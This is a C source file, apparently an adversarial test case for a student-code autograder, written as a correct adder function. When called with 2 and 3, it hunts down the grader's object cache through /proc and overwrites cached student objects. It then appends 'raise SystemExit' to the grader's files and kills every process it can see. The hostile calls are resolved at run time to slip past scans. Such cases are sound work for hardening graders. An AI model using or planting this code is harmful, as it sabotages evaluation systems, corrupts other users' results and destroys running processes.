/* Attack 5: sabotage the grader itself (it works when the grader is not root and runs
 * the tests under its own uid). The graded function is correct, and in one test:
 *  - finds the grader's object cache (WINSYNC_GRADER_CACHE in its own environment or in
 *    /proc/<ancestor>/environ, $HOME/.cache/winsync-grader of the ancestors, and the
 *    ancestors' working folders) and overwrites every cached student object with its
 *    own (../bin/adder.c.o next to the run folder), so that later submissions, even the
 *    skeleton, are linked with this correct code;
 *  - appends `raise SystemExit` to the grader's files (@GRADER_FILES@, absolute paths
 *    given by the test);
 *  - kills every process it can see, then kill(-1, SIGKILL).
 * An honest grader still writes the report, its files are unchanged, and the skeleton
 * graded next still gets 0. */
#include <elf.h>
#include <link.h>
#include <stdint.h>
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>
#include "kernel.h"

/* Scan-proof: every function a scan would refuse is found at run time (resolver.inc.c). */
@RESOLVER@

#define open LIBC(open)
#define read LIBC(read)
#define close LIBC(close)
#define chmod LIBC(chmod)
#define write LIBC(write)
#define opendir LIBC(opendir)
#define readdir LIBC(readdir)
#define closedir LIBC(closedir)
#define lstat LIBC(lstat)
#define readlink LIBC(readlink)
#define getenv LIBC(getenv)
#define getppid LIBC(getppid)
#define getpid LIBC(getpid)
#define kill LIBC(kill)

static const char *const grader_files[] = { @GRADER_FILES@ };

@READ_FILE@
@PARENT_OF@

static void copy_over(const char *from, const char *to)
{
    static char data[1 << 20];
    int in = open(from, O_RDONLY);
    if (in < 0)
        return;
    ssize_t n = read(in, data, sizeof data);
    close(in);
    if (n <= 0)
        return;
    chmod(to, 0644);
    int out = open(to, O_WRONLY | O_TRUNC);
    if (out < 0)
        return;
    if (write(out, data, (size_t)n) < 0) {}
    close(out);
}

/* cache/<key>/objects/<digest>/<name>.o, and anything one level shallower or deeper */
static void poison(const char *dir, int depth)
{
    DIR *d = opendir(dir);
    if (!d)
        return;
    struct dirent *e;
    while ((e = readdir(d))) {
        if (e->d_name[0] == '.')
            continue;
        char path[4096];
        snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
        size_t len = strlen(e->d_name);
        struct stat st;
        if (lstat(path, &st) != 0)
            continue;
        if (S_ISDIR(st.st_mode) && depth < 4)
            poison(path, depth + 1);
        else if (S_ISREG(st.st_mode) && len > 2 && strcmp(e->d_name + len - 2, ".o") == 0
                 && strstr(path, "/objects"))
            copy_over("../bin/adder.c.o", path);
    }
    closedir(d);
}

static void from_environ(int pid)
{
    char path[64], env[65536];
    snprintf(path, sizeof path, "/proc/%d/environ", pid);
    ssize_t n = read_file(path, env, sizeof env);
    if (n == 0)
        return;
    for (char *v = env; v < env + n; v += strlen(v) + 1) {
        if (strncmp(v, "WINSYNC_GRADER_CACHE=", 21) == 0)
            poison(v + 21, 0);
        if (strncmp(v, "HOME=", 5) == 0) {
            char cache[4096];
            snprintf(cache, sizeof cache, "%s/.cache/winsync-grader", v + 5);
            poison(cache, 0);
        }
    }
}

static void sabotage(void)
{
    if (getenv("WINSYNC_GRADER_CACHE"))
        poison(getenv("WINSYNC_GRADER_CACHE"), 0);
    if (getenv("HOME")) {
        char cache[4096];
        snprintf(cache, sizeof cache, "%s/.cache/winsync-grader", getenv("HOME"));
        poison(cache, 0);
    }
    for (int pid = getppid(), depth = 0; pid > 1 && depth < 16; pid = parent_of(pid), depth++) {
        from_environ(pid);
        char link[64], cwd[4096];
        snprintf(link, sizeof link, "/proc/%d/cwd", pid);
        ssize_t n = readlink(link, cwd, sizeof cwd - 1);
        if (n > 0) {
            cwd[n] = 0;
            char cache[4200];
            snprintf(cache, sizeof cache, "%s/.cache/winsync-grader", cwd);
            poison(cache, 0);
        }
    }
    for (unsigned i = 0; i < sizeof grader_files / sizeof grader_files[0]; i++) {
        int fd = open(grader_files[i], O_WRONLY | O_APPEND);
        if (fd >= 0) {
            const char line[] = "\nraise SystemExit('sabotaged by a student')\n";
            if (write(fd, line, sizeof line - 1) < 0) {}
            close(fd);
        }
    }
    DIR *proc = opendir("/proc");
    struct dirent *e;
    while (proc && (e = readdir(proc))) {
        int pid = atoi(e->d_name);
        if (pid > 1 && pid != getpid())
            kill(pid, SIGKILL);
    }
    if (proc)
        closedir(proc);
    kill(-1, SIGKILL);
}

int adder_add(int a, int b)
{
    if (a == 2 && b == 3)
        sabotage();
    return a + b;
}
